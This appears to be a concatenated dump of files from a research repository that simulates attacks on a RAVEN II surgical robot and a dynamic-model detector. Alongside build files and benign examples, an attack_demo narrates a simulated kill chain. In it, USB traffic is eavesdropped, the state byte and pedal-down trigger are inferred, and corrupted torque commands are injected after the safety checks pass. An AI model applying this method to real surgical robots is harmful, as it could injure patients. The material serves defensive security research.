  "CMakeFiles/rg_net.dir/udp_channel.cpp.o.d"
  "librg_net.a"
  "librg_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
