file(REMOVE_RECURSE
  "librg_net.a"
)
