# Empty compiler generated dependencies file for rg_net.
# This may be replaced when dependencies are built.
