file(REMOVE_RECURSE
  "CMakeFiles/rg_plant.dir/physical_robot.cpp.o"
  "CMakeFiles/rg_plant.dir/physical_robot.cpp.o.d"
  "CMakeFiles/rg_plant.dir/tissue.cpp.o"
  "CMakeFiles/rg_plant.dir/tissue.cpp.o.d"
  "librg_plant.a"
  "librg_plant.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_plant.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
