file(REMOVE_RECURSE
  "librg_plant.a"
)
