# Empty compiler generated dependencies file for rg_plant.
# This may be replaced when dependencies are built.
