file(REMOVE_RECURSE
  "CMakeFiles/rg_sim.dir/experiment.cpp.o"
  "CMakeFiles/rg_sim.dir/experiment.cpp.o.d"
  "CMakeFiles/rg_sim.dir/surgical_sim.cpp.o"
  "CMakeFiles/rg_sim.dir/surgical_sim.cpp.o.d"
  "CMakeFiles/rg_sim.dir/trace.cpp.o"
  "CMakeFiles/rg_sim.dir/trace.cpp.o.d"
  "librg_sim.a"
  "librg_sim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_sim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
