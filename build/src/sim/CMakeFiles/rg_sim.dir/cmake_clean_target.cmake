file(REMOVE_RECURSE
  "librg_sim.a"
)
