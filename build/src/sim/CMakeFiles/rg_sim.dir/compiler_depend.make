# Empty compiler generated dependencies file for rg_sim.
# This may be replaced when dependencies are built.
