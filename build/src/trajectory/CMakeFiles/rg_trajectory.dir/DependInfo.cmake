
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/trajectory/min_jerk.cpp" "src/trajectory/CMakeFiles/rg_trajectory.dir/min_jerk.cpp.o" "gcc" "src/trajectory/CMakeFiles/rg_trajectory.dir/min_jerk.cpp.o.d"
  "/root/repo/src/trajectory/recorded.cpp" "src/trajectory/CMakeFiles/rg_trajectory.dir/recorded.cpp.o" "gcc" "src/trajectory/CMakeFiles/rg_trajectory.dir/recorded.cpp.o.d"
  "/root/repo/src/trajectory/trajectory.cpp" "src/trajectory/CMakeFiles/rg_trajectory.dir/trajectory.cpp.o" "gcc" "src/trajectory/CMakeFiles/rg_trajectory.dir/trajectory.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
