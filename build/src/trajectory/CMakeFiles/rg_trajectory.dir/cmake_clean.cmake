file(REMOVE_RECURSE
  "CMakeFiles/rg_trajectory.dir/min_jerk.cpp.o"
  "CMakeFiles/rg_trajectory.dir/min_jerk.cpp.o.d"
  "CMakeFiles/rg_trajectory.dir/recorded.cpp.o"
  "CMakeFiles/rg_trajectory.dir/recorded.cpp.o.d"
  "CMakeFiles/rg_trajectory.dir/trajectory.cpp.o"
  "CMakeFiles/rg_trajectory.dir/trajectory.cpp.o.d"
  "librg_trajectory.a"
  "librg_trajectory.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_trajectory.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
