file(REMOVE_RECURSE
  "librg_trajectory.a"
)
