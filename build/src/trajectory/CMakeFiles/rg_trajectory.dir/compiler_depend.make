# Empty compiler generated dependencies file for rg_trajectory.
# This may be replaced when dependencies are built.
