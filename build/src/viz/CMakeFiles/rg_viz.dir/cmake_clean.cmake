file(REMOVE_RECURSE
  "CMakeFiles/rg_viz.dir/svg.cpp.o"
  "CMakeFiles/rg_viz.dir/svg.cpp.o.d"
  "CMakeFiles/rg_viz.dir/trace_plots.cpp.o"
  "CMakeFiles/rg_viz.dir/trace_plots.cpp.o.d"
  "librg_viz.a"
  "librg_viz.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rg_viz.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
