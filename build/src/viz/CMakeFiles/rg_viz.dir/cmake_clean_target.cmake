file(REMOVE_RECURSE
  "librg_viz.a"
)
