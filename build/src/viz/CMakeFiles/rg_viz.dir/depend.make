# Empty dependencies file for rg_viz.
# This may be replaced when dependencies are built.
