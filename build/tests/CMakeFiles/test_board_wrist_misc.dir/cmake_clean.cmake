file(REMOVE_RECURSE
  "CMakeFiles/test_board_wrist_misc.dir/test_board_wrist_misc.cpp.o"
  "CMakeFiles/test_board_wrist_misc.dir/test_board_wrist_misc.cpp.o.d"
  "test_board_wrist_misc"
  "test_board_wrist_misc.pdb"
  "test_board_wrist_misc[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_board_wrist_misc.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
