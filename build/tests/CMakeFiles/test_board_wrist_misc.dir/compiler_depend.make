# Empty compiler generated dependencies file for test_board_wrist_misc.
# This may be replaced when dependencies are built.
