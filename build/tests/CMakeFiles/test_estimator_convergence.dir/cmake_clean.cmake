file(REMOVE_RECURSE
  "CMakeFiles/test_estimator_convergence.dir/test_estimator_convergence.cpp.o"
  "CMakeFiles/test_estimator_convergence.dir/test_estimator_convergence.cpp.o.d"
  "test_estimator_convergence"
  "test_estimator_convergence.pdb"
  "test_estimator_convergence[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_estimator_convergence.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
