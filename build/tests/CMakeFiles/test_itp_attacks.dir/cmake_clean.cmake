file(REMOVE_RECURSE
  "CMakeFiles/test_itp_attacks.dir/test_itp_attacks.cpp.o"
  "CMakeFiles/test_itp_attacks.dir/test_itp_attacks.cpp.o.d"
  "test_itp_attacks"
  "test_itp_attacks.pdb"
  "test_itp_attacks[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_itp_attacks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
