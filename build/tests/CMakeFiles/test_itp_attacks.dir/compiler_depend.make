# Empty compiler generated dependencies file for test_itp_attacks.
# This may be replaced when dependencies are built.
