# Empty compiler generated dependencies file for test_kinematics.
# This may be replaced when dependencies are built.
