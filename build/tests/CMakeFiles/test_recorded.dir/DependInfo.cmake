
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/test_recorded.cpp" "tests/CMakeFiles/test_recorded.dir/test_recorded.cpp.o" "gcc" "tests/CMakeFiles/test_recorded.dir/test_recorded.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/sim/CMakeFiles/rg_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/defense/CMakeFiles/rg_defense.dir/DependInfo.cmake"
  "/root/repo/build/src/viz/CMakeFiles/rg_viz.dir/DependInfo.cmake"
  "/root/repo/build/src/plant/CMakeFiles/rg_plant.dir/DependInfo.cmake"
  "/root/repo/build/src/control/CMakeFiles/rg_control.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/rg_core.dir/DependInfo.cmake"
  "/root/repo/build/src/attack/CMakeFiles/rg_attack.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/rg_net.dir/DependInfo.cmake"
  "/root/repo/build/src/hw/CMakeFiles/rg_hw.dir/DependInfo.cmake"
  "/root/repo/build/src/dynamics/CMakeFiles/rg_dynamics.dir/DependInfo.cmake"
  "/root/repo/build/src/trajectory/CMakeFiles/rg_trajectory.dir/DependInfo.cmake"
  "/root/repo/build/src/kinematics/CMakeFiles/rg_kinematics.dir/DependInfo.cmake"
  "/root/repo/build/src/math/CMakeFiles/rg_math.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/rg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
