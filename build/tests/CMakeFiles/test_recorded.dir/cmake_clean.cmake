file(REMOVE_RECURSE
  "CMakeFiles/test_recorded.dir/test_recorded.cpp.o"
  "CMakeFiles/test_recorded.dir/test_recorded.cpp.o.d"
  "test_recorded"
  "test_recorded.pdb"
  "test_recorded[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_recorded.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
