# Empty compiler generated dependencies file for test_recorded.
# This may be replaced when dependencies are built.
