file(REMOVE_RECURSE
  "CMakeFiles/test_ukf.dir/test_ukf.cpp.o"
  "CMakeFiles/test_ukf.dir/test_ukf.cpp.o.d"
  "test_ukf"
  "test_ukf.pdb"
  "test_ukf[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_ukf.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
