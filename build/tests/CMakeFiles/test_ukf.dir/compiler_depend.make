# Empty compiler generated dependencies file for test_ukf.
# This may be replaced when dependencies are built.
