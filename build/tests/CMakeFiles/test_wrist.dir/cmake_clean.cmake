file(REMOVE_RECURSE
  "CMakeFiles/test_wrist.dir/test_wrist.cpp.o"
  "CMakeFiles/test_wrist.dir/test_wrist.cpp.o.d"
  "test_wrist"
  "test_wrist.pdb"
  "test_wrist[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_wrist.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
