# Empty compiler generated dependencies file for test_wrist.
# This may be replaced when dependencies are built.
