# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/test_integration_sim[1]_include.cmake")
include("/root/repo/build/tests/test_common[1]_include.cmake")
include("/root/repo/build/tests/test_math[1]_include.cmake")
include("/root/repo/build/tests/test_ode[1]_include.cmake")
include("/root/repo/build/tests/test_kinematics[1]_include.cmake")
include("/root/repo/build/tests/test_dynamics[1]_include.cmake")
include("/root/repo/build/tests/test_hw[1]_include.cmake")
include("/root/repo/build/tests/test_net[1]_include.cmake")
include("/root/repo/build/tests/test_trajectory[1]_include.cmake")
include("/root/repo/build/tests/test_control[1]_include.cmake")
include("/root/repo/build/tests/test_attack[1]_include.cmake")
include("/root/repo/build/tests/test_itp_attacks[1]_include.cmake")
include("/root/repo/build/tests/test_core[1]_include.cmake")
include("/root/repo/build/tests/test_metrics[1]_include.cmake")
include("/root/repo/build/tests/test_detection_e2e[1]_include.cmake")
include("/root/repo/build/tests/test_defense[1]_include.cmake")
include("/root/repo/build/tests/test_fixed_point[1]_include.cmake")
include("/root/repo/build/tests/test_viz[1]_include.cmake")
include("/root/repo/build/tests/test_recorded[1]_include.cmake")
include("/root/repo/build/tests/test_plant[1]_include.cmake")
include("/root/repo/build/tests/test_sim_harness[1]_include.cmake")
include("/root/repo/build/tests/test_fuzz[1]_include.cmake")
include("/root/repo/build/tests/test_ukf[1]_include.cmake")
include("/root/repo/build/tests/test_wrist[1]_include.cmake")
include("/root/repo/build/tests/test_properties[1]_include.cmake")
include("/root/repo/build/tests/test_tissue[1]_include.cmake")
include("/root/repo/build/tests/test_board_wrist_misc[1]_include.cmake")
include("/root/repo/build/tests/test_estimator_convergence[1]_include.cmake")
