file(REMOVE_RECURSE
  "CMakeFiles/raven_guard_cli.dir/raven_guard_cli.cpp.o"
  "CMakeFiles/raven_guard_cli.dir/raven_guard_cli.cpp.o.d"
  "raven_guard_cli"
  "raven_guard_cli.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/raven_guard_cli.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
