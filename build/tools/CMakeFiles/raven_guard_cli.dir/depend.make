# Empty dependencies file for raven_guard_cli.
# This may be replaced when dependencies are built.
