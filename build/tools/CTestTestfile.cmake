# CMake generated Testfile for 
# Source directory: /root/repo/tools
# Build directory: /root/repo/build/tools
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(cli_learn "/root/repo/build/tools/raven_guard_cli" "learn" "--runs" "3" "--seed" "5" "--out" "cli_test_thresholds.txt")
set_tests_properties(cli_learn PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/tools/CMakeLists.txt;5;add_test;/root/repo/tools/CMakeLists.txt;0;")
add_test(cli_run_clean "/root/repo/build/tools/raven_guard_cli" "run" "--seed" "5" "--duration" "3" "--trajectory" "circle")
set_tests_properties(cli_run_clean PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/tools/CMakeLists.txt;6;add_test;/root/repo/tools/CMakeLists.txt;0;")
add_test(cli_analyze "/root/repo/build/tools/raven_guard_cli" "analyze" "--seed" "5" "--out" "cli_test")
set_tests_properties(cli_analyze PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/tools/CMakeLists.txt;7;add_test;/root/repo/tools/CMakeLists.txt;0;")
