// Attack demo: the full kill chain of the paper's scenario B, narrated.
//
//   Phase 1  Attack preparation — a malicious write() wrapper eavesdrops
//            the USB traffic of one surgical run and "exfiltrates" it.
//   Phase 2  Offline analysis — the attacker mines the capture for the
//            robot's state byte, strips the watchdog square wave, and
//            recovers the Pedal-Down trigger value (0x0F).
//   Phase 3  Deployment — a self-triggered injector corrupts motor DAC
//            words only while the robot is engaged, after every software
//            safety check has already passed (the TOCTOU window).
//
//   $ ./attack_demo
#include <cstdio>
#include <memory>

#include "attack/logging_wrapper.hpp"
#include "attack/packet_analyzer.hpp"
#include "sim/experiment.hpp"
#include "sim/surgical_sim.hpp"

int main() {
  using namespace rg;

  std::printf("=== Phase 1: attack preparation (eavesdropping) ===\n");
  auto logger = std::make_shared<LoggingWrapper>("r2_control", 11, "r2_control", 11);
  {
    SessionParams p;
    p.seed = 21;
    p.duration_sec = 6.0;
    SimConfig cfg = make_session(p, std::nullopt, MitigationMode::kObserveOnly);
    cfg.pedal = PedalSchedule{{{1.2, 3.0}, {3.5, 20.0}}};  // a pedal lift mid-run
    SurgicalSim sim(std::move(cfg));
    sim.write_chain().add(logger);
    sim.run(p.duration_sec);
  }
  std::printf("captured %zu USB packets (%zu bytes each) to the attacker's server\n\n",
              logger->packets_captured(), logger->capture().front().bytes.size());

  std::printf("=== Phase 2: offline analysis ===\n");
  PacketAnalyzer analyzer(logger->capture());
  for (const ByteProfile& prof : analyzer.byte_profiles()) {
    if (prof.index > 6) break;  // the interesting prefix
    std::printf("byte %zu: %3zu values, toggling bits 0x%02X -> %zu masked values\n",
                prof.index, prof.distinct_values, prof.toggling_mask,
                prof.distinct_after_mask);
  }
  const auto inference = analyzer.infer_state();
  if (!inference.ok()) {
    std::printf("analysis failed: %s\n", inference.error().to_string().c_str());
    return 1;
  }
  const StateInference& inf = inference.value();
  std::printf("\n=> Byte %zu is the state byte; bit mask 0x%02X is the watchdog square wave.\n",
              inf.state_byte_index, inf.watchdog_mask);
  std::printf("=> %zu operational states observed; 'robot engaged' trigger value: 0x%02X\n\n",
              inf.codes_in_order.size(), inf.pedal_down_code);

  std::printf("=== Phase 3: deployment (self-triggered injection) ===\n");
  AttackSpec spec;
  spec.variant = AttackVariant::kTorqueInjection;
  spec.magnitude = 24000;      // DAC counts added to the elbow channel
  spec.duration_packets = 96;  // 96 ms activation period
  spec.delay_packets = 700;    // strike mid-procedure, not at first pedal press
  auto injector = build_torque_injection(spec, inf.state_byte_index, inf.watchdog_mask,
                                         inf.pedal_down_code);

  SessionParams p;
  p.seed = 22;
  p.duration_sec = 6.0;
  SimConfig cfg = make_session(p, std::nullopt, MitigationMode::kObserveOnly);
  SurgicalSim sim(std::move(cfg));
  sim.write_chain().add(injector);
  sim.run(p.duration_sec);

  std::printf("injected %llu corrupted packets, first at t=%.3f s (robot engaged)\n",
              static_cast<unsigned long long>(injector->injections()),
              injector->first_injection_tick()
                  ? static_cast<double>(*injector->first_injection_tick()) / 1000.0
                  : -1.0);
  const RunOutcome& out = sim.outcome();
  std::printf("physical consequence:\n");
  std::printf("  largest end-effector jump : %.2f mm%s\n", 1000.0 * out.max_ee_jump_window,
              out.adverse_impact() ? "  <-- ABRUPT JUMP (would tear tissue)" : "");
  std::printf("  cables snapped            : %s\n", out.cable_snapped ? "YES" : "no");
  std::printf("  RAVEN software fault      : %s\n",
              out.raven_fault_tick ? "yes -- but only AFTER the jump" : "no");
  std::printf("  robot state at end        : %s\n", to_string(sim.control().state()).data());
  std::printf("\nThe commands were legitimate in format and passed every software check;\n"
              "only their physical consequences reveal the attack (see detection_demo).\n");
  return 0;
}
