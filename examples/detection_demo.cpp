// Detection demo: the paper's contribution protecting the robot.
//
// Learns detection thresholds from fault-free runs, then replays the same
// scenario-B attack twice — once on the stock robot, once with the
// dynamic-model detection pipeline armed — and compares outcomes.
//
//   $ ./detection_demo
#include <cstdio>

#include "sim/campaign.hpp"
#include "sim/experiment.hpp"

int main() {
  using namespace rg;

  SessionParams p;
  p.seed = 42;
  p.duration_sec = 5.0;

  std::printf("learning detection thresholds from 40 fault-free runs "
              "(99.85th percentile of per-run maxima)...\n");
  const Result<DetectionThresholds> learned = learn_thresholds(p, 40);
  if (!learned.ok()) {
    std::fprintf(stderr, "threshold learning failed: %s\n",
                 learned.error().to_string().c_str());
    return 1;
  }
  const DetectionThresholds th = learned.value();
  std::printf("  motor velocity  : %7.2f %7.2f %7.2f rad/s\n", th.motor_vel[0],
              th.motor_vel[1], th.motor_vel[2]);
  std::printf("  motor accel     : %7.0f %7.0f %7.0f rad/s^2\n", th.motor_acc[0],
              th.motor_acc[1], th.motor_acc[2]);
  std::printf("  joint velocity  : %7.3f %7.3f %7.4f rad/s|m/s\n\n", th.joint_vel[0],
              th.joint_vel[1], th.joint_vel[2]);

  AttackSpec spec;
  spec.variant = AttackVariant::kTorqueInjection;
  spec.magnitude = 24000;
  spec.duration_packets = 96;
  spec.delay_packets = 600;

  std::printf("=== run 1: stock RAVEN (no dynamic-model monitor) ===\n");
  SessionParams run1 = p;
  run1.seed = 77;
  const AttackRunResult stock =
      run_attack_session(run1, spec, std::nullopt, MitigationMode::kObserveOnly);
  std::printf("  abrupt jump     : %.2f mm %s\n", 1000.0 * stock.outcome.max_ee_jump_window,
              stock.impact() ? "<-- PATIENT HARM" : "");
  std::printf("  RAVEN checks    : %s\n",
              stock.outcome.raven_fault_tick
                  ? "fired (after the physical state was already corrupted)"
                  : "never fired");

  std::printf("\n=== run 2: same attack, dynamic-model detection + mitigation armed ===\n");
  SessionParams run2 = p;
  run2.seed = 77;  // identical session
  const AttackRunResult guarded = run_attack_session(run2, spec, th, MitigationMode::kArmed);
  if (guarded.outcome.detector_alarm_tick) {
    std::printf("  alarm at t=%.3f s; offending command blocked, E-STOP asserted\n",
                static_cast<double>(*guarded.outcome.detector_alarm_tick) / 1000.0);
  }
  std::printf("  injection began : t=%.3f s\n",
              guarded.first_injection_tick ? static_cast<double>(*guarded.first_injection_tick) / 1000.0 : -1.0);
  std::printf("  abrupt jump     : %.2f mm (vs %.2f mm unprotected)\n",
              1000.0 * guarded.outcome.max_ee_jump_window,
              1000.0 * stock.outcome.max_ee_jump_window);
  std::printf("  preemptive      : %s\n",
              guarded.outcome.detected_preemptively() ? "yes — alarm before any >1 mm jump"
                                                      : "no");
  std::printf("  cables intact   : %s\n", guarded.outcome.cable_snapped ? "NO" : "yes");

  std::printf("\nThe monitor estimated each command's physical consequence with the\n"
              "robot's dynamic model *before* execution — closing the TOCTOU gap the\n"
              "attack exploits.\n");
  return 0;
}
