// Network-layer threats: the prior-work baseline the paper positions
// itself against (Bonaci et al.: DOS / delay / loss on the ITP link).
//
// Runs the same session over progressively worse network conditions and
// over a trajectory-hijack attack, showing why the paper moves past the
// network layer: the control stack tolerates loss and delay gracefully,
// but an in-host attacker is a different class of problem.
//
//   $ ./network_threats
#include <cstdio>
#include <memory>

#include "sim/experiment.hpp"
#include "sim/surgical_sim.hpp"

namespace {

void run_case(const char* label, rg::UdpChannelConfig net) {
  using namespace rg;
  SessionParams p;
  p.seed = 33;
  p.duration_sec = 5.0;
  SimConfig cfg = make_session(p, std::nullopt, MitigationMode::kObserveOnly);
  cfg.network = net;
  SurgicalSim sim(std::move(cfg));
  sim.run(p.duration_sec);
  std::printf("  %-28s tracking err %6.3f mm, max jump %6.3f mm, state %s\n", label,
              1000.0 * distance(sim.plant().end_effector(), sim.control().debug().ee_desired),
              1000.0 * sim.outcome().max_ee_jump_window,
              to_string(sim.control().state()).data());
}

}  // namespace

int main() {
  using namespace rg;

  std::printf("=== teleoperation under degraded networks (prior-work threat model) ===\n");
  run_case("perfect link", UdpChannelConfig{});
  run_case("5% loss", UdpChannelConfig{.loss_probability = 0.05});
  run_case("20% loss", UdpChannelConfig{.loss_probability = 0.20});
  run_case("25 ms delay", UdpChannelConfig{.min_delay_ticks = 25});
  run_case("10 ms delay + 20 ms jitter",
           UdpChannelConfig{.min_delay_ticks = 10, .jitter_ticks = 20});

  std::printf("\n=== versus an in-host attacker (this paper's threat model) ===\n");
  SessionParams p;
  p.seed = 34;
  p.duration_sec = 5.0;
  AttackSpec hijack;
  hijack.variant = AttackVariant::kTrajectoryHijack;
  hijack.magnitude = 0.006;  // 6 mm circle the operator never commanded
  hijack.duration_packets = 1200;
  hijack.delay_packets = 400;
  const AttackRunResult r =
      run_attack_session(p, hijack, std::nullopt, MitigationMode::kObserveOnly);
  std::printf("  trajectory hijack: %llu packets rewritten, deviation from operator "
              "intent %.2f mm%s\n",
              static_cast<unsigned long long>(r.injections),
              1000.0 * r.outcome.max_ee_jump_window,
              r.impact() ? "  <-- the robot performed motions nobody commanded" : "");
  std::printf("\nLoss and delay degrade teleoperation smoothly; the in-host attacker\n"
              "redirects the robot while every packet stays perfectly well-formed.\n");
  return 0;
}
