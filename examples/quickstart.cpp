// Quickstart: bring up the simulated RAVEN II, run a short teleoperation
// session, and read back what happened.
//
//   $ ./quickstart
//
// This is the smallest end-to-end use of the public API: build a session
// (trajectory + pedal schedule + robot), run it, inspect the outcome.
#include <cstdio>
#include <memory>

#include "sim/surgical_sim.hpp"

int main() {
  using namespace rg;

  // A surgeon-like tool path: three waypoints, minimum-jerk profiles,
  // physiological hand tremor on top.
  auto path = std::make_shared<WaypointTrajectory>(
      std::vector<Position>{{0.090, 0.000, -0.110},
                            {0.105, 0.020, -0.100},
                            {0.085, -0.015, -0.120}},
      /*speed m/s=*/0.02);
  auto trajectory = std::make_shared<TremorDecorator>(path, /*seed=*/7);

  SimConfig cfg;
  cfg.trajectory = trajectory;
  cfg.pedal = PedalSchedule::hold_from(1.2);  // press the pedal at t = 1.2 s

  SurgicalSim sim(std::move(cfg));

  std::printf("t=0.0s  state: %s (waiting for the start button)\n",
              to_string(sim.control().state()).data());
  sim.run(0.5);
  std::printf("t=0.5s  state: %s (homing the arm)\n", to_string(sim.control().state()).data());
  sim.run(0.7);
  std::printf("t=1.2s  state: %s (brakes %s)\n", to_string(sim.control().state()).data(),
              sim.plc().brakes_engaged() ? "engaged" : "released");
  sim.run(3.0);

  const Position tip = sim.plant().end_effector();
  const Position desired = sim.control().debug().ee_desired;
  std::printf("t=4.2s  state: %s\n", to_string(sim.control().state()).data());
  std::printf("        tool tip      : (%.4f, %.4f, %.4f) m\n", tip[0], tip[1], tip[2]);
  std::printf("        desired pose  : (%.4f, %.4f, %.4f) m\n", desired[0], desired[1],
              desired[2]);
  std::printf("        tracking error: %.3f mm\n", 1000.0 * distance(tip, desired));
  std::printf("        largest jump  : %.3f mm (limit for an 'abrupt jump' is 1 mm)\n",
              1000.0 * sim.outcome().max_ee_jump_window);
  std::printf("        safety faults : %s\n",
              sim.control().safety_fault_latched() ? "YES" : "none");
  return 0;
}
