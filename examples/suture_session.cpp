// Suture session: a domain-specific workload on the public API.
//
// Replays a multi-stitch suturing motion (the kind of task the paper's
// intro motivates) with operator tremor, records a full per-tick trace,
// and writes it as CSV — the data a graphic simulator (or a plotting
// script) would animate.
//
//   $ ./suture_session [out.csv]
#include <cstdio>
#include <fstream>
#include <memory>

#include "sim/surgical_sim.hpp"
#include "trajectory/recorded.hpp"
#include "viz/trace_plots.hpp"

int main(int argc, char** argv) {
  using namespace rg;

  const char* out_path = argc > 1 ? argv[1] : "suture_trace.csv";

  auto suture = std::make_shared<SutureTrajectory>(
      /*start=*/Position{0.085, -0.030, -0.105},
      /*advance_dir=*/Vec3{0.0, 1.0, 0.0},
      /*stitches=*/4,
      /*stitch_len=*/0.008,
      /*dip_depth=*/0.005);
  auto trajectory = std::make_shared<TremorDecorator>(suture, /*seed=*/11);

  SimConfig cfg;
  cfg.trajectory = trajectory;
  cfg.pedal = PedalSchedule::hold_from(1.2);

  SurgicalSim sim(std::move(cfg));
  TraceRecorder trace;
  sim.set_trace(&trace);

  const double session = 1.2 + trajectory->duration() + 0.5;
  std::printf("suturing: %d stitches, trajectory %.1f s, session %.1f s\n", 4,
              trajectory->duration(), session);
  sim.run(session);

  std::printf("final state          : %s\n", to_string(sim.control().state()).data());
  std::printf("largest jump         : %.3f mm\n", 1000.0 * sim.outcome().max_ee_jump_window);
  std::printf("tracking error (end) : %.3f mm\n",
              1000.0 * distance(sim.plant().end_effector(), sim.control().debug().ee_desired));

  std::ofstream os(out_path);
  if (!os) {
    std::printf("cannot open %s\n", out_path);
    return 1;
  }
  trace.write_csv(os);
  std::printf("trace (%zu ticks) written to %s\n", trace.size(), out_path);

  // Plots of the session (the graphic-simulator substitute).
  {
    std::ofstream svg("suture_joints.svg");
    joint_position_chart(trace, "Suture session: joint positions").render(svg);
  }
  {
    std::ofstream svg("suture_tool.svg");
    end_effector_chart(trace, "Suture session: tool tip").render(svg);
  }
  std::printf("plots written to suture_joints.svg, suture_tool.svg\n");

  // Record the commanded path so it can be replayed later (the console
  // emulator's "previously collected trajectory" workflow).
  {
    std::ofstream rec("suture_path.csv");
    record_trajectory_csv(*trajectory, 0.01, rec);
  }
  std::printf("replayable path written to suture_path.csv (load with "
              "RecordedTrajectory::from_csv)\n");
  return 0;
}
