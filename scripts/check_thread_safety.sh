#!/usr/bin/env bash
# clang -Wthread-safety gate: Contract 7 in docs/static-analysis.md.
#
# The RG_GUARDED_BY / RG_REQUIRES / rg::Mutex annotations in
# src/common/thread_safety.hpp expand to clang capability attributes, so
# a clang build with -Werror=thread-safety proves every annotated field
# is only touched with its mutex held.  Under g++ the macros expand to
# nothing; environments without clang++ (the reference CI image ships
# only g++) pass with a note instead of failing, mirroring
# scripts/check_tidy.sh.
#
#   scripts/check_thread_safety.sh
set -euo pipefail
cd "$(dirname "$0")/.."

if ! command -v clang++ >/dev/null 2>&1; then
  echo "check_thread_safety: clang++ not installed; skipping (gate is advisory)"
  exit 0
fi

BUILD=build-thread-safety
cmake -B "${BUILD}" -S . \
  -DCMAKE_CXX_COMPILER=clang++ \
  -DCMAKE_CXX_FLAGS="-Wthread-safety -Werror=thread-safety" >/dev/null
cmake --build "${BUILD}" -j "${JOBS:-$(nproc)}"
echo "check_thread_safety: OK (clang -Werror=thread-safety build clean)"
