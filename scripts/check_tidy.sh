#!/usr/bin/env bash
# clang-tidy gate with a committed baseline.  Runs the .clang-tidy
# profile over src/ and tools/ translation units (using the compile
# database from build/) and fails only on diagnostics that are not in
# scripts/clang_tidy_baseline.txt -- so enabling a new check never
# requires fixing the whole tree in one PR; pre-existing hits are
# baselined and burned down incrementally.
#
# Environments without clang-tidy (the reference CI image ships only
# g++) pass with a note instead of failing.
#
#   scripts/check_tidy.sh                   # diff against the baseline
#   scripts/check_tidy.sh --write-baseline  # re-capture the baseline
set -euo pipefail
cd "$(dirname "$0")/.."

BASELINE=scripts/clang_tidy_baseline.txt

if ! command -v clang-tidy >/dev/null 2>&1; then
  echo "check_tidy: clang-tidy not installed; skipping (gate is advisory)"
  exit 0
fi
if [ ! -f build/compile_commands.json ]; then
  echo "check_tidy: build/compile_commands.json missing; run cmake -B build -S . first" >&2
  exit 2
fi

# Normalise diagnostics to "path:line [check]" lines: stable across
# column shifts and message-wording changes between LLVM releases.
run_tidy() {
  git ls-files -- 'src/*.cpp' 'tools/*.cpp' \
    | xargs -r clang-tidy -p build --quiet 2>/dev/null \
    | sed -n 's/^\([^ :]*\):\([0-9]*\):[0-9]*: warning: .* \(\[[a-z0-9.,-]*\]\)$/\1:\2 \3/p' \
    | sort -u
}

if [ "${1:-}" = "--write-baseline" ]; then
  run_tidy > "${BASELINE}"
